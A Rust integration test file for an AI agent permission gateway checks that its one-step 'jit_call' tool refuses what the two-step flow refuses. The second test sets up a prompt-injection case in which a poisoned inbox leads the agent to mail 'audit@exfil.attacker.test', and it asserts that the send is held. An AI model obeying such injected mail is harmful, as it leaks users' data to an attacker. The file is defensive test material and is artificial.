//! `jit_call`: the request and the call in one round trip, through the real
//! binary with the shipped policies. It decides exactly as `jit_request`
//! does (the same refusals, the same holds for a person or the end user),
//! runs only the asked call, and its token never exists outside the request.

mod common;

use common::*;
use serde_json::{Value, json};

fn token_id(r: &rmcp::model::CallToolResult) -> Option<String> {
    r.meta.as_ref()?.0.get("jitgate/token")?.as_str().map(str::to_owned)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_step_calls_run_what_was_asked_and_refuse_what_jit_request_refuses() {
    let dep = quickstart_deployment();
    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;
    let triage = gw.connect_modern(&dep.mint("triage")).await;
    let names: Vec<String> = triage.peer().list_all_tools().await.unwrap().into_iter().map(|t| t.name.to_string()).collect();
    assert!(names.iter().any(|n| n == "jit_call"), "{names:?}");
    let task = begin(&triage, json!([{"name": "read", "tools": ["workspace__read_note", "workspace__list_notes"]}, {"name": "reply", "tools": ["workspace__send_message"]}])).await.unwrap();
    let one = |tool: &str, arguments: Value| json!({"task": task, "tool": tool, "arguments": arguments, "purpose": "answer alice"});

    // One round trip: the tool's result, and the token id for `follows`.
    let r = raw_call(&triage, "jit_call", one("workspace__read_note", json!({"name": "welcome.md"}))).await.unwrap();
    assert_ne!(r.is_error, Some(true), "{}", text_of(&r));
    assert!(text_of(&r).contains("Welcome"), "{}", text_of(&r));
    let jti = token_id(&r).expect("the token id is in _meta");
    let mut follow = one("workspace__list_notes", json!({}));
    follow["follows"] = json!(jti);
    let r = raw_call(&triage, "jit_call", follow).await.unwrap();
    assert_ne!(r.is_error, Some(true), "{}", text_of(&r));
    assert_ne!(token_id(&r), Some(jti.clone()), "each call has its own token");
    // The token was consumed inside the request: its id is not a token, and
    // the call is on record once.
    let replay = call_with_token(&triage, "workspace__read_note", json!({"name": "welcome.md"}), &jti).await.unwrap();
    assert!(refusal_code(&replay).is_some(), "{}", text_of(&replay));

    // What jit_request refuses, jit_call refuses with the same reason, and
    // nothing runs: a tool of a later phase, a tool the agent may not use,
    // a task that does not exist.
    for (tool, arguments) in [
        ("workspace__send_message", json!({"to": "alice@example.org", "subject": "hi", "body": "hello"})),
        ("workspace__delete_note", json!({"name": "welcome.md"})),
    ] {
        let two_step = grant(&triage, json!({"task": task, "tool": tool, "arguments": arguments, "purpose": "answer alice"})).await.unwrap_err();
        let r = raw_call(&triage, "jit_call", one(tool, arguments)).await.unwrap();
        assert_eq!(r.is_error, Some(true), "{}", text_of(&r));
        assert_eq!(refusal_code(&r), refusal_code(&two_step), "{tool}: {} / {}", text_of(&r), text_of(&two_step));
    }
    let mut elsewhere = one("workspace__read_note", json!({"name": "welcome.md"}));
    elsewhere["task"] = json!("tsk_does_not_exist");
    let r = raw_call(&triage, "jit_call", elsewhere).await.unwrap();
    assert_eq!(r.is_error, Some(true), "{}", text_of(&r));
    assert!(sent_to(&dep).is_empty());
    assert!(dep.workspace_state.join("notes/welcome.md").exists());

    // Another agent cannot call in this agent's task.
    let janitor = gw.connect_modern(&dep.mint("janitor")).await;
    let r = raw_call(&janitor, "jit_call", one("workspace__read_note", json!({"name": "welcome.md"}))).await.unwrap();
    assert_eq!(r.is_error, Some(true), "{}", text_of(&r));

    // Malformed: a clear error naming the tool's schema.
    let r = raw_call(&triage, "jit_call", json!({"task": task, "tool": "workspace__read_note"})).await.unwrap();
    assert_eq!(refusal_code(&r).as_deref(), Some("invalid_arguments"), "{}", text_of(&r));

    // The plan moves on and the legitimate reply goes out in one step.
    raw_call(&triage, "jit_next_phase", json!({"task": task, "phase": "reply"})).await.unwrap();
    let r = raw_call(&triage, "jit_call", one("workspace__send_message", json!({"to": "alice@example.org", "subject": "Q3", "body": "on track"}))).await.unwrap();
    assert_ne!(r.is_error, Some(true), "{}", text_of(&r));
    assert_eq!(sent_to(&dep), ["alice@example.org"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_injected_recipient_is_held_in_one_step_as_in_two() {
    let dep = quickstart_deployment();
    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;
    let triage = gw.connect_modern(&dep.mint("triage")).await;
    let task = after_reading_the_poisoned_inbox(&triage).await;
    let attack = json!({"task": task, "tool": "workspace__send_message", "purpose": "comply with the notice",
                        "arguments": {"to": "audit@exfil.attacker.test", "subject": "Audit", "body": "see attached"}});
    let r = raw_call(&triage, "jit_call", attack).await.unwrap();
    assert_held_for_end_user(&Ok(answer(&r)), "platform-oncall");
    assert!(sent_to(&dep).is_empty(), "nothing was sent");
    // The real sender still gets the reply, in one step.
    let reply = json!({"task": task, "tool": "workspace__send_message", "purpose": "reply to alice",
                       "arguments": {"to": "alice@example.org", "subject": "Audit", "body": "see attached"}});
    let r = raw_call(&triage, "jit_call", reply).await.unwrap();
    assert_ne!(r.is_error, Some(true), "{}", text_of(&r));
    assert_eq!(sent_to(&dep), ["alice@example.org"]);
}
